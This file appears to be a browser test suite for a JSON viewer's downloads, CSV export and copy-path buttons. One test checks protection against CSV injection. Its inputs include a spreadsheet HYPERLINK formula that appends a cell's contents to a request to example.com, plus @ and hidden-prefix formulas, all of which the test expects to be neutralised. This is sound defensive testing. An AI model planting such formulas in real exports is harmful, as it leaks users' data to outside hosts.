//! What is made of an answer: files, and what is copied. That each file is what other tools make of the same answer is for the
//! tests of `json::write`.

use js_sys::{Function, Promise};
use wasm_bindgen::JsValue;
use wasm_bindgen_futures::JsFuture;
use wasm_bindgen_test::wasm_bindgen_test;

use super::bodies::{COLUMNS, CUT_OFF, FORMULAS, NUMBERS, list, objects, records};
use super::stage::{End, Sent, Stage};

/// Some columns of the records, as CSV. Nothing in them needs a quote.
fn csv(records: &[[String; 6]], columns: &[usize]) -> String {
    let row = |cell: &dyn Fn(usize) -> String| {
        columns.iter().map(|at| cell(*at)).collect::<Vec<_>>().join(",") + "\r\n"
    };
    let rows = records.iter().map(|record| row(&|at| record[at].clone()));
    row(&|at| COLUMNS[at].to_owned()) + &rows.collect::<String>()
}

const ALL: [usize; 6] = [0, 1, 2, 3, 4, 5];

#[wasm_bindgen_test]
async fn each_file_is_made_by_the_menu() {
    let records = records(200);
    let stage = Stage::open(Sent::json(list(&records))).await;
    let pretty = |record: String| {
        record
            .replace('{', "  {\n    ")
            .replace('}', "\n  }")
            .replace(",\"", ",\n    \"")
            .replace("\":", "\": ")
    };
    let pretty: Vec<String> = objects(&records).into_iter().map(pretty).collect();
    for (kind, name, expected) in [
        ("As sent", "answer.json", list(&records)),
        ("Pretty JSON", "answer.json", format!("[\n{}\n]", pretty.join(",\n"))),
        ("NDJSON", "answer.ndjson", objects(&records).join("\n") + "\n"),
        ("CSV", "answer.csv", csv(&records, &ALL)),
    ] {
        let (file, bytes) = stage.download(kind).await;
        assert_eq!((file.as_str(), String::from_utf8(bytes).expect("UTF-8")), (name, expected), "{kind}");
        stage.says(".response-bar .selection-done", "Saved").await;
    }
}

/// In the order and with the columns of the table.
#[wasm_bindgen_test]
async fn a_file_has_the_order_and_the_columns_of_the_table() {
    let mut records = records(200);
    let stage = Stage::open(Sent::json(list(&records))).await;
    stage.tab("Table").await;
    for order in ["ascending", "descending"] {
        stage.press("id").await;
        let is_sorted = || {
            stage.all(&format!("[aria-sort={order}]")).len() == 1
                && !stage.texts(".table-note").concat().contains("Sorting")
        };
        stage.until(&format!("the {order} order"), is_sorted).await;
    }
    records.reverse();
    assert_eq!(stage.file("CSV").await, csv(&records, &ALL));

    stage.press("Columns").await;
    stage.press("None").await;
    stage.until("no column", || stage.all("[role=columnheader]").is_empty()).await;
    // Two changes without waiting for the first.
    let boxed = |name: &str| {
        stage.all(".chooser label").into_iter().find(|label| label.text_content().as_deref() == Some(name))
    };
    boxed("amount").expect("a box").click();
    boxed("id").expect("a box").click();
    stage.until("two columns", || stage.all("[role=columnheader]").len() == 2).await;
    let mover = || stage.all("[aria-label='Move amount to the left']").remove(0);
    mover().focus().expect("the focus");
    mover().click();
    stage.until("the other order", || stage.texts("[role=columnheader]") == ["amount", "id ↓"]).await;
    let label = || stage.active().get_attribute("aria-label");
    stage.until("the focus", || label().as_deref() == Some("Move amount to the left")).await;
    assert_eq!(stage.file("CSV").await, csv(&records, &[4, 0]));
}

/// A spreadsheet takes no text for a formula (OWASP, "CSV Injection"); numbers stay numbers.
#[wasm_bindgen_test]
async fn formulas_are_guarded() {
    let stage = Stage::open(Sent::json(FORMULAS)).await;
    let expected = concat!(
        "id,name,amount,note\r\n",
        "1,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"x\"\")\",-1.10,'+1\r\n",
        "2,'@SUM(1+1),1.10e2,'-2+3\r\n",
        "3,\"'\t'=1+1\",,\"'\r'=1+1\"\r\n",
        "4,plain,9007199254740993,\"a \"\"quoted\"\", and\r\na line\"\r\n",
        "'=5,'＝6,-7, '=8\r\n",
    );
    assert_eq!(stage.file("CSV").await, expected);
}

#[wasm_bindgen_test]
async fn what_broke_off_is_saved_as_far_as_it_came() {
    let stage = Stage::open(Sent::json(CUT_OFF).end(End::BrokenOff)).await;
    assert_eq!(stage.file("As sent").await, CUT_OFF);
    assert!(stage.text().contains("Download incomplete"), "the button says so before it is pressed");
}

#[wasm_bindgen_test]
async fn no_table_is_saved_of_what_has_no_array() {
    let stage = Stage::open(Sent::json("{\"a\":1}")).await;
    stage.press("Download").await;
    stage.press("CSV").await;
    stage.says(".response-bar .selection-done", "There is no array in it to make such a file of").await;
    assert_eq!(stage.files(), 0);
}

/// Presses Stop as soon as it is there: what stands in the bar then.
const STOP: &str = "const bar = document.querySelector('.response-bar');
    return new Promise((resolve) => {
        const look = (_, observer) => {
            const stop = [...bar.querySelectorAll('button')].find((one) => one.textContent === 'Stop');
            if (stop) {
                observer.disconnect();
                const said = bar.textContent;
                stop.click();
                resolve(said);
            }
        };
        new MutationObserver(look).observe(bar, { subtree: true, childList: true });
    });";

/// Stop ends the file that is being made, and the next one is whole.
#[wasm_bindgen_test]
async fn a_file_that_is_stopped_is_not_made() {
    let records = records(20_000);
    let body = list(&records);
    let stage = Stage::open(Sent::json(body.clone())).await;
    stage.press("Download").await;
    let stopped: Promise = Function::new_no_args(STOP).call0(&JsValue::UNDEFINED).expect("a script").into();
    stage.press("Pretty JSON").await;
    let said = JsFuture::from(stopped).await.expect("an end").as_string().expect("a text");
    assert!(said.contains("Saving"), "{said}");
    stage.until("the end of it", || !stage.text().contains("Saving")).await;
    assert_eq!(stage.file("As sent").await, body);
    assert_eq!(stage.files(), 1, "the stopped file was not made");
}

/// The value, the key and the path in each spelling of the row that was chosen by keyboard.
#[wasm_bindgen_test]
async fn a_value_is_copied_in_each_spelling() {
    let stage = Stage::open(Sent::json(NUMBERS)).await;
    stage.row("0.1e1").await;
    stage.focus_list().await;
    stage.key("End");
    stage.key("ArrowUp");
    stage.says(".selection-path", "$['same'][3]").await;
    for (button, text) in [
        ("JSONPath", "$['same'][3]"),
        ("jq", ".same[3]"),
        ("JavaScript", "json.same[3]"),
        ("Pointer", "/same/3"),
        ("Copy value", "10e-1"),
        ("Copy key", "3"),
    ] {
        let buttons = stage.all("[aria-label='Selected value'] button");
        buttons
            .into_iter()
            .find(|it| it.text_content().as_deref() == Some(button))
            .expect("a button")
            .click();
        stage.until(&format!("{text} by {button}"), || stage.copied().as_deref() == Some(text)).await;
        stage.says(".selection .selection-done", "Copied").await;
    }
}
